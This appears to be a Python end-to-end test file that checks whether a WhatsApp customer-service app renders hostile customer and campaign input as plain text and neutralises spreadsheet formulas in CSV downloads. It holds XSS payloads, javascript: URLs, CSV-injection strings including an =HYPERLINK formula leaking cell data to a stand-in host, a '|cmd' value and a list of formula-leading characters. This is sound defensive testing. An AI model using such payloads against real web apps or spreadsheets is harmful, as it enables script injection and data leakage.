"""What strangers write on WhatsApp and what stands in files of recipients: text in every screen, and no formula in a download."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from playwright.async_api import Page, expect

from tests.support import Api, System
from tests.support.system import SIMULATOR
from tests.support.waiting import eventually

from .canaries import is_untouched, wired
from .people import Person, hire, settle_admin
from .windows import NEW_PASSWORD, PATIENCE_MS, AgentDesk, OpenWindow

SONIA = Person("sonia.alves", "Sônia Alves", "supervisor")
PROFILE = "Íris <img src=x onerror=canary(50)>"
WORDS = "<svg/onload=canary(51)>"
PLACE = "Casa <img src=x onerror=canary(52)>"
STREET = '"><script>canary(53)</script>'
CARD = "Rui <iframe srcdoc=canary(54)>"
FILE = "laudo<img src=x onerror=canary(55)>.txt"
HEADLINE = "Fibra <img src=x onerror=canary(56)>"
CAMPAIGN = "=Aviso <img src=x onerror=canary(57)>"
HEADING = "<svg onload=canary(58)>"
QUEUE = '=HYPERLINK("http://sink.invalid/","Fila <img src=x onerror=canary(59)>")'
AREA = "<img src=x onerror=canary(60)>"
FORMULAS = ('=HYPERLINK("http://sink.invalid/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\uff1d1+1", "|cmd", "%0A=1")
ALWAYS = {"days": ["mon", "tue", "wed", "thu", "fri", "sat", "sun"], "from": "00:00", "to": "24:00"}
_BEGINS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(scope="module")
async def demo(built_web: Path, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[System]:
    """A demo in one process, which serves the built pages."""
    system = System("single", tmp_path_factory.mktemp("hostile"), demo=True, env={"WEB_DIST_DIR": str(built_web)})
    await system.start()
    yield system
    await system.kill_all()


@pytest.fixture(scope="module")
async def admin(demo: System) -> AsyncIterator[Api]:
    """An administrator's client, with a supervisor hired and rules under which the clock does not matter."""
    async with Api(demo.gateway_url) as api:
        client = await settle_admin(api)
        await hire(client, SONIA)
        [number] = (await client.get("/api/whatsapp/channels")).ok()["channels"]
        (await client.post("/api/whatsapp/templates/sync", {"channel_id": number["id"]})).ok()
        rules = (await client.get("/api/whatsapp/campaigns/rules")).ok()
        kept = {name: rules[name] for name in rules if not name.startswith(("timezone", "most_", "updated_"))}
        (await client.put("/api/whatsapp/campaigns/rules", {**kept, "hours": ALWAYS})).ok()
        yield client


@pytest.fixture
async def phone(demo: System) -> AsyncIterator[aiohttp.ClientSession]:
    """The simulated network: what customers do."""
    async with aiohttp.ClientSession(base_url=demo.url_of(SIMULATOR)) as session:
        yield session


async def _desk(demo: System, open_window: OpenWindow) -> AgentDesk:
    desk = AgentDesk(await wired(await open_window(demo.web_url, accept_downloads=True)))
    await desk.sign_in("admin", NEW_PASSWORD)
    await desk.in_inbox()
    return desk


async def _does(phone: aiohttp.ClientSession, path: str, body: Any) -> Any:
    async with phone.post(f"/control{path}", json=body) as answer:
        assert answer.status == 200, await answer.text()
        return await answer.json()


async def _file(phone: aiohttp.ClientSession) -> str:
    path = "/control/media?mime_type=text/plain&file_name=laudo.txt"
    async with phone.post(path, data=b"<script>canary(61)</script>") as answer:
        assert answer.status == 200, await answer.text()
        return str((await answer.json())["id"])


async def test_nothing_of_a_whatsapp_customer_is_ever_run(
    demo: System, admin: Api, phone: aiohttp.ClientSession, open_window: OpenWindow
) -> None:
    who = (await _does(phone, "/customers", {"name": PROFILE, "phone": "+5511966660001"}))["id"]
    advert = {"source_url": "javascript:canary(62)", "source_type": "ad", "source_id": "1", "headline": HEADLINE}
    card = {"name": {"formatted_name": CARD}, "phones": [{"phone": "+55 11 91234-0009"}]}
    place = {"latitude": -23.5, "longitude": -46.6, "name": PLACE, "address": STREET, "url": "javascript:canary(63)"}
    document = {"id": await _file(phone), "mime_type": "text/plain", "filename": FILE, "caption": WORDS}
    for kind, content, more in (
        ("text", {"body": WORDS}, {"extra": {"referral": advert}}),
        ("location", place, {}),
        ("contacts", [card], {}),
        ("document", document, {}),
    ):
        await _does(phone, f"/customers/{who}/messages", {"type": kind, kind: content, **more})
    desk = await _desk(demo, open_window)
    await desk.show("Todas")
    await desk.row(PROFILE).click()
    for text in (WORDS, HEADLINE, PLACE, STREET, CARD):
        await expect(desk.thread.get_by_text(text).first).to_be_visible(timeout=PATIENCE_MS)
    await expect(desk.thread.get_by_text(re.compile("laudo.*txt")).first).to_be_visible(timeout=PATIENCE_MS)
    for tab in ("Conversa", "Histórico", "Cliente"):
        await desk.page.get_by_role("tab", name=tab, exact=True).click()
        await is_untouched(desk.page)


def _people() -> bytes:
    """Return a file of recipients whose names are formulas and whose areas are markup."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(("telefone", "nome", "bairro", HEADING))
    writer.writerows((f"119{88_880_000 + n}", name, AREA, "x") for n, name in enumerate(FORMULAS))
    return out.getvalue().encode()


async def _sent(admin: Api) -> str:
    """Write, approve and send the campaign; returns its id."""
    sonia = await admin.with_token(None).login(SONIA.username, NEW_PASSWORD)
    [number] = (await sonia.get("/api/whatsapp/channels")).ok()["channels"]
    values = ("{{bairro}}", "05/12", WORDS)
    body = {
        "name": CAMPAIGN, "kind": "notice", "channel_id": number["id"], "per_minute": 600,
        "template": {"name": "manutencao_programada", "language": "pt_BR"},
        "variables": [{"where": "body", "key": str(key), "value": value} for key, value in enumerate(values, 1)],
    }  # fmt: skip
    campaign = str((await sonia.post("/api/whatsapp/campaigns", body)).ok()["id"])
    async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {sonia.token}"}) as session:
        url = f"{sonia.base_url}/api/whatsapp/campaigns/files/{campaign}?file_name=lista.csv"
        async with session.post(url, data=_people(), headers={"Content-Type": "text/csv"}) as answer:
            assert answer.status == 200, await answer.text()
    path = f"/api/whatsapp/campaigns/{campaign}"
    (await sonia.post(f"{path}/submit", {})).ok()
    (await admin.post(f"{path}/approve", {"note": WORDS})).ok()
    (await admin.post(f"{path}/start", {})).ok()

    async def over() -> bool:
        return bool((await admin.get(path)).ok()["state"] == "done")

    await eventually(over, within=30)
    return campaign


async def test_a_campaign_of_hostile_text_is_text_and_its_report_holds_no_formula(
    demo: System, admin: Api, open_window: OpenWindow
) -> None:
    campaign = await _sent(admin)
    desk = await _desk(demo, open_window)
    page = desk.page
    for path, sign in (
        ("/campaigns", CAMPAIGN),
        (f"/campaigns/{campaign}", FORMULAS[0]),
        ("/campaigns/consents", "Registrar"),
    ):
        await desk.window.go(path)
        await expect(page.get_by_text(sign).first).to_be_visible(timeout=PATIENCE_MS)
        await is_untouched(page)
    await desk.window.go(f"/campaigns/{campaign}")
    rows = await _downloaded(page, ";")
    assert len(rows) == 1 + len(FORMULAS)
    assert [row[0] for row in rows[1:]] == [f"'{name}" for name in FORMULAS]


async def test_the_month_of_a_queue_that_is_named_like_a_formula_is_a_harmless_table(
    demo: System, admin: Api, open_window: OpenWindow
) -> None:
    for queue in (await admin.get("/api/chat/queues")).ok()["queues"]:
        (await admin.put(f"/api/chat/queues/{queue['id']}", {"name": f"{QUEUE} {queue['id'][-4:]}"})).ok()
    desk = await _desk(demo, open_window)
    await desk.window.go("/reports")
    await expect(desk.page.get_by_text(QUEUE).first).to_be_visible(timeout=PATIENCE_MS)
    await is_untouched(desk.page)
    rows = await _downloaded(desk.page, ",")
    assert any(row[1].startswith(f"'{QUEUE}") for row in rows), "a queue's own row is in the table"


async def _downloaded(page: Page, delimiter: str) -> list[list[str]]:
    """Return the rows of the file behind "Baixar CSV", none of whose cells a spreadsheet would run."""
    async with page.expect_download() as download:
        await page.get_by_role("button", name="Baixar CSV").click()
    raw = Path(await (await download.value).path()).read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter))
    assert not [cell for row in rows for cell in row if cell.lstrip(" ").startswith(_BEGINS)]
    return rows
